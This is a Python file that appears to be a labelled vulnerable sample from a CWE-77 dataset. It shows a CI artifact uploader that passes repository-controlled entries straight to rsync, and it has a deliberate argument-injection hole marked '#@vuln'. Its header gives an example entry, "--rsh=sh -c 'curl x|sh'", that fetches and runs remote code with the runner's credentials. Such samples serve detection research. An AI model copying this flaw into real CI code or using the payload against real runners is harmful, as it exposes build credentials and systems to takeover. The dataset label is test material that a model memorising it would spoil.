# ---
# id: cwe77-r2-ci-artifact-upload-v
# cwe: CWE-77
# vulnerable: true
# twin: cwe77-r2-ci-artifact-upload-f
# tags: asyncio, rsync, yaml
# explanation: A shared CI runner uploads build artifacts listed in the repository's .ci.yml to the artifact host with rsync, started through an argument list without a shell. The artifact entries are appended as bare arguments, so an entry like "--rsh=sh -c 'curl x|sh'" is parsed by rsync as its remote-shell option and runs a command on the runner with its upload credentials (argument injection). Absolute paths and '..' entries are already refused.
# ---
import asyncio
import logging
from pathlib import Path
from typing import List

import yaml

log = logging.getLogger("ci.artifacts")

RSYNC = "/usr/bin/rsync"
ARTIFACT_HOST = "artifacts@store.ci.internal"
SSH_KEY = "/etc/ci/artifact_ed25519"
MAX_ARTIFACTS = 50


def artifact_entries(checkout: Path) -> List[str]:
    config = yaml.safe_load((checkout / ".ci.yml").read_text(encoding="utf-8")) or {}
    entries = config.get("artifacts") or []
    if isinstance(entries, str):
        entries = [entries]
    out = []
    for entry in map(str, entries[:MAX_ARTIFACTS]):
        path = Path(entry)
        if path.is_absolute() or ".." in path.parts:
            log.warning("ignoring artifact entry %r", entry)
            continue
        out.append(entry)
    return out


def rsync_argv(entries: List[str], project: str, build_id: int) -> List[str]:
    argv = [RSYNC, "-a", "--relative", "--chmod=F644,D755", "-e", f"ssh -i {SSH_KEY} -o BatchMode=yes"]
    argv += entries  #@vuln
    argv.append(f"{ARTIFACT_HOST}:/srv/artifacts/{project}/{int(build_id)}/")
    return argv


async def upload_artifacts(checkout: Path, project: str, build_id: int) -> int:
    entries = artifact_entries(checkout)
    if not entries:
        log.info("build %s: no artifacts declared", build_id)
        return 0
    argv = rsync_argv(entries, project, build_id)
    proc = await asyncio.create_subprocess_exec(*argv, cwd=checkout, stdout=asyncio.subprocess.PIPE,
                                                stderr=asyncio.subprocess.PIPE)
    out, err = await asyncio.wait_for(proc.communicate(), timeout=900)
    if proc.returncode not in (0, 23):
        log.error("build %s: rsync failed (%s): %s", build_id, proc.returncode, err.decode(errors="replace")[-400:])
        raise RuntimeError("artifact upload failed")
    if proc.returncode == 23:
        log.warning("build %s: some artifacts were missing", build_id)
    log.info("build %s: uploaded %d artifact entries", build_id, len(entries))
    return len(entries)
